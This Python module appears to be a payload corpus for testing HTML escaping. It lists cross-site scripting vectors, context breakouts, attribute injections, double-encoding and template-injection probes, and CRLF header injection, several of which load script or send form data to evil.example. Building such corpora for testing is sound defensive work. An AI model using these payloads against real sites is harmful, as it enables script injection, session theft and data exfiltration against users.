"""Words that run as a program, or bring something foreign into a page, wherever they are not escaped."""

from __future__ import annotations

#: What breaks out of where a text usually stands.
BREAKS = (
    "", '">', "'>", "-->", "</title>", "</textarea>", "</script>", "</style>", "</select>", "</option></select>", "]]>",
    '" x="', "</span></legend></fieldset>", "</bdi>", "`>",
)  # fmt: skip
#: What runs by itself, or adds something to the page that a text must not.
VECTORS = (
    "<script>alert(1)</script>",
    "<img src=x: onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x: onerror=alert(1)></audio>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    '<iframe src="javascript:parent.alert(1)"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<script src="data:text/javascript,alert(1)"></script>',
    "<script src=//evil.example/x.js></script>",
    '<a href="javascript:alert(1)">press</a>',
    '<form action="https://evil.example/"><button>send</button></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>*{background:url(https://evil.example/)}</style>",
    '<div style="position:fixed;inset:0;background:red">x</div>',
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    "<template><img src=x: onerror=alert(1)></template>",
    '<noscript><p title="</noscript><img src=x: onerror=alert(1)>">',
    "<math><mtext></form><form><mglyph><style></math><img src=x: onerror=alert(1)>",
    "<svg><style><img src=x: onerror=alert(1)></style></svg>",
    "<!--><img src=x: onerror=alert(1)>-->",
    "<![CDATA[><img src=x: onerror=alert(1)>]]>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script\n>alert(1)</script\t>",
    "<img\tsrc=x:\nonerror\r=\talert(1)>",
    "<scr\0ipt>alert(1)</scr\0ipt><img src=x: onerror=alert(1)>",
    "<<script>alert(1)</script>",
    "<img src=x: onerror=alert(1)\u202e>",
    "\u202e<script>alert(1)</script>",
    "\ufeff<svg onload=alert(1)>",
    "<button form=x formaction=javascript:alert(1)>x</button>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<select autofocus onfocus=alert(1)></select>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<keygen autofocus onfocus=alert(1)>",
    "<portal src=//evil.example>",
    "<frameset onload=alert(1)>",
)
#: What breaks out of an attribute without a tag.
ATTRIBUTES = (
    '" onfocus="alert(1)" autofocus="', "' onfocus='alert(1)' autofocus='", '" onmouseover="alert(1)',
    '" autofocus onfocus=alert(1) x="', "x onfocus=alert(1) autofocus", '" style="background:red" y="',
    '" formaction="javascript:alert(1)', '" srcdoc="<script>alert(1)</script>',
)  # fmt: skip
#: What is harmless in HTML, and harmful once it is decoded, or filled in, a second time.
TWICE = (
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x: onerror=alert(1)&#62;",
    "&amp;lt;svg onload=alert(1)&amp;gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cimg src=x: onerror=alert(1)\\u003e", "\\x3csvg onload=alert(1)\\x3e",
    "{{ 7 * 19191 }}",
    "{% print(7 * 19191) %}",
    "${alert(1)}",
    "#{7 * 19191}",
    "<%= 7 * 19191 %>",
    "{link}{title}{__class__}",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "%0d%0aSet-Cookie:%20x=1", "\r\nX-Injected: 1",
)  # fmt: skip
RUNNING = tuple(dict.fromkeys(
    [f"{BREAKS[n % len(BREAKS)]}{vector}" for n, vector in enumerate(VECTORS)]
    + [f"{BREAKS[(7 * n + 5) % len(BREAKS)]}{vector}" for n, vector in enumerate(VECTORS)]
))  # fmt: skip
PAYLOADS = (*RUNNING, *ATTRIBUTES, *TWICE)
